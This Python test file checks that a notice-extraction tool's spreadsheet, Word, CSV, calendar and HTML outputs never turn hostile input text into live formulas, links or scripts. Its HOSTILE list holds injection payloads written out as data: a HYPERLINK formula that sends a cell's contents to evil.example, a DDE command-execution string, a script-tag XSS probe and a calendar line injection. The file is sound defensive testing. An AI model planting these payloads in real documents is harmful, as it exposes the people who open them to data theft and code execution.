"""Whatever a notice says, no deliverable runs it: no formula, no link, no markup from text."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator

import pytest

from extractor.model.notice import Attachment, Contact, Indicator, Metadata, Notice, Observation, SubmissionChannel, Task
from outputs.base import COLLECTION_WRITERS, WRITERS, OutputFile, load_collection_writer, load_writer
from outputs.reply_docx_writer import ReplyDocxWriter
from outputs.reply_kinds import REPLY_KINDS
from outputs.task_xlsx_writer import task_sheet_file

Make = Callable[..., Notice]
HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    " =1",
    "{=1+1}",
    "<script>alert(1)</script>",
    "]]><x/>",
    "&lt;b&gt;",
    "http://evil.example",
    "BEGIN:VEVENT\r\nUID:x",
    "\x00\x07\ufffe\u202e",
)


def hostile(make: Make, words: str) -> Notice:
    task = Task(
        id="T1",
        title=words,
        kind="action",
        quote=words,
        lead_units=(words,),
        deliverables=(words,),
        number=words,
        section=words,
        category=words,
        condition=words,
        flags=(words,),
        deadline_ids=("D1",),
    )
    return make(
        metadata=Metadata(title=words, document_number=words, issuing_authorities=(words,), document_type=words),
        tasks=(task,),
        contacts=(Contact(name=words, unit=words, phones=(words,), emails=(words,), purpose=words),),
        submission_channels=(SubmissionChannel(medium="paper", address=words, recipient=words, requirements=(words,)),),
        attachments=(Attachment(title=words, number=words),),
        indicators=(
            Indicator(number=words, text=words, path=(words,), answer_type="count", unit_of_measure=words, office=words, options=(words,)),
        ),
        observations=(Observation(quote=words, value=1, unit=words, indicator=words, period=words),),
        review_flags=(words,),
    )


def all_files(notice: Notice) -> Iterator[OutputFile]:
    for name in WRITERS:
        yield from load_writer(name).files(notice)
    for name in COLLECTION_WRITERS:
        yield from load_collection_writer(name).files([notice])
    for titles in ((), ("序号", "任务事项", "责任单位", "完成时限")):
        yield task_sheet_file(notice, public=True, titles=titles)
    for kind in REPLY_KINDS:
        yield from ReplyDocxWriter(kind).files(notice)


@pytest.mark.parametrize("words", HOSTILE, ids=range(len(HOSTILE)))
def test_no_formulas_in_any_output_of_a_hostile_notice(words: str, sheet_notice: Make) -> None:
    for file in all_files(hostile(sheet_notice, words)):
        check = {"xlsx": check_workbook, "docx": check_word, "csv": check_csv, "ics": check_calendar, "html": check_page}
        check.get(file.name.rpartition(".")[2], bytes)(file.data)


def check_workbook(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            xml = package.read(name).decode()
            assert not re.search(r"<f[ >]", xml), name
            assert "<hyperlink" not in xml and 'TargetMode="External"' not in xml, name


def check_word(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        document = package.read("word/document.xml").decode()
        assert "<w:hyperlink" not in document and "<w:instrText" not in document and "<script" not in document
        assert not any('TargetMode="External"' in package.read(name).decode() for name in package.namelist() if name.endswith(".rels"))


def check_csv(data: bytes) -> None:
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        for cell in row:
            assert not cell.lstrip().startswith(("=", "+", "@", "＝", "＋", "＠")) and not re.match(r"\s*[-－](?![\d.]+$)", cell)


def check_calendar(data: bytes) -> None:
    """Unfolded by a parser of our own: as many components as were written, every line short and whole."""
    lines = data.split(b"\r\n")
    assert all(len(line) <= 75 for line in lines)
    assert [line.decode("utf-8") for line in lines]
    names = [line.partition(b":")[2] for line in re.sub(rb"\r\n[ \t]", b"", data).split(b"\r\n") if line.startswith((b"BEGIN:", b"END:"))]
    stack: list[bytes] = []
    for line in (line for line in re.sub(rb"\r\n[ \t]", b"", data).split(b"\r\n") if line.startswith((b"BEGIN:", b"END:"))):
        kind, _, name = line.partition(b":")
        if kind == b"BEGIN":
            stack.append(name)
        else:
            assert stack.pop() == name
    assert not stack and names.count(b"VEVENT") == names.count(b"VTODO") * 1 and b"UID:x" not in lines


def check_page(data: bytes) -> None:
    html = data.decode()
    assert html.count("<script>") == 1 and html.count("</script>") == 1
    assert not re.search(r"<(?:a|img|iframe|x|b>1|object|embed)\b[^>]*(?:href|src)", html)
